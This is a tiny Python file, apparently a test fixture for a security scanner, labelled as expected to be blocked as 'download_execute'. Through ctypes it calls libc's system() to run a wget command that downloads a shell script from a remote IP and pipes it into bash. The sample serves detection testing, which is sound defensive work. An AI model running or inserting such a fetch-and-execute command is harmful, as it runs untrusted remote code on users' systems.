# expect: BLOCKED download_execute
import ctypes
import ctypes.util

libc = ctypes.CDLL(ctypes.util.find_library("c"))
libc.system(b"wget -qO- http://203.0.113.7/m.sh | bash")
